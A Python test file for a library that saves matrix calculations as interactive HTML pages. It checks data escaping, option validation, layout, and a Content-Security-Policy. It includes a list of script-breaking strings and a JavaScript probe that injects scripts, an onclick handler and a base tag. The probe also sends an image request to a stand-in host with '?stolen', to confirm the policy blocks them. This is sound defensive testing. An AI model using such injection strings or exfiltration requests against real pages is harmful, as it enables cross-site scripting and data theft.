"""A page that is saved: it opens whatever things are called, or one sentence says why it is not written."""

import base64
import hashlib
import html
import json
import re
import zlib

import cases
import numpy as np
import pytest
from on_page import (
    arithmetic,
    as_typeset,
    assert_shows,
    button,
    computed,
    moved,
    shown,
    spot,
    switch,
    type_into,
)

import handcalc as hc
from handcalc.foundation import extras
from handcalc.views import saved_page, variants

CALC = cases.build("worked_example")
HOSTILE = [
    "</script>",
    "<!--<script>",
    "]]>",
    "<\\/script>",
    "&lt;",
    "\u2028\u2029",
    "\ud800",
    '"\\',
    "{title}",
]
FORMS = """({ variants }, [list, givens]) => {
  const calculation = new variants.Variants(list).calculate("columns", "exact", givens);
  return calculation.givens.map((matrix) => matrix.toRows());
}"""


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_data_in_a_page_holds_no_markup_and_comes_back_unchanged(text):
    written = saved_page.embedded({text: [text]})
    assert not set(written) & set("<>&\u2028\u2029")
    assert written.isascii()
    assert json.loads(written) == {text: [text]}


def test_a_page_whose_title_holds_markup_has_its_own_scripts_and_no_others(tmp_path):
    title = "".join(text for text in HOSTILE if text.isprintable())  # a title is one line
    calculation = hc.Calculation(*CALC.values(), title=title)
    calculation.save_html(tmp_path / "page.html")
    text = (tmp_path / "page.html").read_text("utf-8")
    assert len(re.findall(r"<script\b", text)) == len(re.findall(r"</script\b", text)) == 3
    assert "<!--" not in text


@pytest.mark.parametrize("open_it", [hc.explore, hc.present, hc.Calculation.save_html])
def test_more_numbers_than_a_page_can_show_are_refused_alike(open_it, tmp_path, monkeypatch):
    path = [tmp_path / "large.html"] if open_it is hc.Calculation.save_html else []
    monkeypatch.setattr(variants, "MAX_PAGE_NUMBERS", 20_000)
    large = hc.Calculation((hc.Matrix(np.ones((200, 200)), "A").T).named("B"))
    with pytest.raises(
        hc.HandcalcError, match=r"^This sheet has 80,000 numbers; \w+ shows up to 20,000\. .*\.$"
    ):
        open_it(large, *path)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    "options", [{"places": False}, {"places": 1.5}, {"places": "2"}, {"places": -1}], ids=str
)
@pytest.mark.parametrize("open_it", [hc.explore, hc.present, hc.Calculation.save_html])
def test_places_that_are_none_are_told_in_one_sentence(open_it, options, tmp_path):
    path = [tmp_path / "page.html"] if open_it is hc.Calculation.save_html else []
    with pytest.raises(hc.HandcalcError, match="places") as told:
        open_it(CALC, *path, **options)
    assert "\n" not in str(told.value)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("convention", ["", 0, "row", ["rows"], np.array([1, 2])], ids=repr)
@pytest.mark.parametrize("open_it", [hc.explore, hc.present])
def test_a_convention_that_does_not_exist_is_told_in_one_sentence(open_it, convention):
    cases.assert_refused(lambda: open_it(CALC, convention=convention), "convention")


@pytest.mark.parametrize("name", ["constructor", "__proto__", "toString", "hasOwnProperty"])
def test_a_given_may_be_called_like_what_every_object_has(node, name):
    A = hc.Matrix([[1, 2]], "A")
    spec = hc.Calculation((A * 2).named("B")).to_spec()
    spec["matrices"][0]["name"] = name
    forms = [{"arithmetic": "exact", "spec": spec}]
    assert node(FORMS, [forms, {}]) == [[[1, 2]]]
    assert node(FORMS, [forms, {name: [[3, 4]]}]) == [[[3, 4]]]


def test_names_and_titles_that_look_like_code_are_only_names(open_page):
    A = hc.Matrix([[1, 2]], "constructor")
    calculation = hc.Calculation((A * 2).named("valueOf"), title="<!--<script> </script> & more")
    page = open_page(calculation)
    assert page.title() == calculation.title
    assert_shows(page, calculation)
    type_into(page, "constructor", 0, 1, text="7")
    assert_shows(page, moved(calculation, "constructor", 0, 1, 7))
    button(page, "Reset").click()
    assert_shows(page, calculation)


def test_where_nothing_is_given_no_control_pretends_to_move_it(open_page):
    calculation = hc.Calculation(hc.positional_encoding(3, 4).named("P"))
    page = open_page(calculation)
    assert page.locator("input[type=range]").count() == 0
    assert page.locator(".hc-move button").count() == 0
    page.get_by_text("This sheet has no givens, so there is nothing to change.").wait_for()
    spot(page, "P", 0, 1).click()
    assert arithmetic(page) == as_typeset(calculation.explain("P", 0, 1))
    switch(page, "Decimals", "4")
    assert arithmetic(page) == as_typeset(calculation.explain("P", 0, 1, places=4))


# In a notebook without widgets the explorer in its frame acts: a number that is clicked is explained.
@pytest.mark.slow
def test_a_number_that_is_clicked_in_the_frame_is_explained(open_text, monkeypatch):
    monkeypatch.setattr(extras, "has_extra", lambda _: False)
    page = open_text(hc.explore(hc.examples.self_attention())._repr_html_())
    frame = page.frame_locator("iframe")
    frame.locator('[data-step="Z"][data-row="1"][data-column="0"]').first.click()
    arithmetic = "Z[2,1] = 0·0.2577 + 0·0.4590 + 10·0.0256 + 10·0.2577 = 2.83"
    frame.get_by_text(arithmetic).first.wait_for()
    assert 'pip install "handcalc[notebook]"' in html.unescape(page.inner_text("body"))


# The sheet without scripts: pointing at a number tells its arithmetic and covers nothing.
@pytest.mark.slow
@cases.each_convention
def test_without_scripts_pointing_at_a_number_tells_its_arithmetic(open_page, convention):
    calculation = hc.examples.self_attention().in_convention(convention)
    page = open_page(calculation, java_script_enabled=False)
    assert shown(page, ".handcalc-sheet") == computed(calculation)
    told = calculation.explain("Z", 1, 2)
    cell = spot(page, "Z", 1, 2, ".handcalc-sheet")
    source = spot(page, *cases.address(told.sources[0]), ".handcalc-sheet")
    assert cell.inner_text() == told.result
    outline = "(cell) => getComputedStyle(cell).outlineStyle"
    assert source.evaluate(outline) == "none"
    cell.hover()
    assert cell.evaluate("(cell) => getComputedStyle(cell, '::after').content") == f'"{told.spoken}"'
    assert source.evaluate(outline) == "solid"


# Where the arithmetic of the number under the mouse is written, seen from the number and from the window.
POPPED = """(cell) => {
  const style = getComputedStyle(cell, "::after");
  const home = style.position === "absolute" && getComputedStyle(cell).position === "relative"
    ? cell : cell.closest(".hc-track");
  const box = home.getBoundingClientRect();
  const [top, left] = [box.top + parseFloat(style.top), box.left + parseFloat(style.left)];
  const below = top - cell.getBoundingClientRect().bottom;
  return { text: style.content, below, left, right: left + parseFloat(style.width) };
}"""


@pytest.mark.slow
def test_the_arithmetic_of_a_static_sheet_stands_near_its_number_and_in_the_window(open_page):
    page = open_page(hc.examples.self_attention(), java_script_enabled=False)
    for width, near in [(650, 600), (760, 600), (900, 10), (1000, 10), (1400, 10)]:
        page.set_viewport_size({"width": width, "height": 600})
        for cell in (("X", 0, 0), ("S", 1, 3), ("A", 2, 3), ("Z", 2, 3), ("Z", 0, 0)):
            place = spot(page, *cell, ".handcalc-sheet")
            place.hover()
            found = place.evaluate(POPPED)
            assert cell[0] in found["text"]
            assert 0 <= found["below"] <= near, (width, cell)
            assert 0 <= found["left"] < found["right"] <= width, (width, cell)


# How far below the lowest number of its sheet the arithmetic of the one under the mouse is written.
BELOW = """(cell) => {
  const [sheet, style] = [cell.closest(".handcalc-sheet"), getComputedStyle(cell, "::after")];
  const ends = [...sheet.querySelectorAll("td")].map((cell) => cell.getBoundingClientRect().bottom);
  const lowest = Math.max(...ends);
  return sheet.getBoundingClientRect().bottom - parseFloat(style.bottom) - parseFloat(style.height) - lowest;
}"""


def test_the_arithmetic_of_a_short_static_sheet_covers_none_of_its_numbers(open_page):
    M, N = hc.Matrix([[1, 2], [3, 4]], "M"), hc.Matrix([[5, 6], [7, 8]], "N")
    calculation = hc.Calculation((M @ hc.softmax(N.T @ M / 2)).named("P"), title="In one line")
    page = open_page(calculation, java_script_enabled=False, viewport={"width": 980, "height": 600})
    for cell in (("M", 0, 0), ("N", 1, 1), ("P", 0, 0)):
        place = spot(page, *cell, ".handcalc-sheet")
        place.hover()
        assert place.evaluate(BELOW) >= 0
    page.locator("td.hc-long").first.hover()
    assert page.locator("td.hc-long").first.evaluate(BELOW) >= 0


# What runs in a saved page: its own scripts alone; nothing from outside, and nothing leaves it.
ATTENTION = hc.examples.self_attention()
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
SCRIPT = re.compile(r"<script([^>]*)>(.*?)</script>", re.DOTALL)
DATA = ('type="application/json"', 'type="text/plain"')  # which no browser runs


def large() -> hc.Calculation:
    """With the table of a vocabulary, whose page is an atlas."""
    return hc.Calculation((hc.Matrix([[1.5] * 1600] * 1600, "M") + 1).named("N"))


SAVED = {
    "a calculation": lambda: ATTENTION,
    "an atlas": large,
    "a training": lambda: hc.train(hc.examples.backwards(), of=["W_Q"], steps=2),
}


def policy_of(text: str) -> dict[str, list[str]]:
    (found,) = POLICY.findall(text)
    return {part.split()[0]: part.split()[1:] for part in found.split(";")}


def sum_of(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


@pytest.mark.parametrize(
    "name", [pytest.param(name, marks=[pytest.mark.slow] * (name == "an atlas")) for name in SAVED]
)
def test_a_saved_page_runs_its_own_scripts_and_no_others(tmp_path, name):
    SAVED[name]().save_html(tmp_path / "page.html")
    text = (tmp_path / "page.html").read_text("utf-8")
    policy = policy_of(text)
    run = [inner for about, inner in SCRIPT.findall(text) if not any(kind in about for kind in DATA)]
    (packed,) = re.findall(r'<script type="text/plain" id="code">(.*?)</script>', text)
    run.append(zlib.decompress(base64.b64decode(packed)).decode())
    assert policy["script-src"] == [sum_of(script) for script in run]
    assert text.index("Content-Security-Policy") < min(text.index("<style"), text.index("<script"))
    nothing = ("default-src", "connect-src", "base-uri", "form-action")
    assert [policy[name] for name in nothing] == [["'none'"]] * len(nothing)
    assert policy["img-src"] == ["data:"]


INTRUDERS = """async () => {
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
  const script = document.createElement("script");
  script.textContent = "globalThis.intruded = true";
  document.body.append(script);
  const far = document.createElement("script");
  far.src = "data:text/javascript,globalThis.intruded = true";
  document.body.append(far);
  const markup = "<p onclick='globalThis.intruded = true'>press</p><base href='https://example.org/'>";
  document.body.insertAdjacentHTML("beforeend", markup);
  document.body.lastElementChild.previousElementSibling.click();
  await fetch("data:text/plain,1").catch(() => {});
  new Image().src = "https://example.org/?stolen";
  await new Promise((done) => setTimeout(done, 50));
  return [blocked.sort(), globalThis.intruded ?? false, document.baseURI === location.href];
}"""


@pytest.mark.slow
def test_nothing_else_runs_in_a_page_and_nothing_leaves_it(open_page, pages):
    page = open_page(ATTENTION)
    blocked, has_run, is_at_home = page.evaluate(INTRUDERS)
    assert blocked == [
        "base-uri",
        "connect-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
        "script-src-elem",
    ]
    assert (has_run, is_at_home) == (False, True)
    troubles = pages.troubles.copy()
    pages.troubles.clear()
    assert all("Content Security Policy" in trouble for trouble in troubles)  # and nothing was asked for
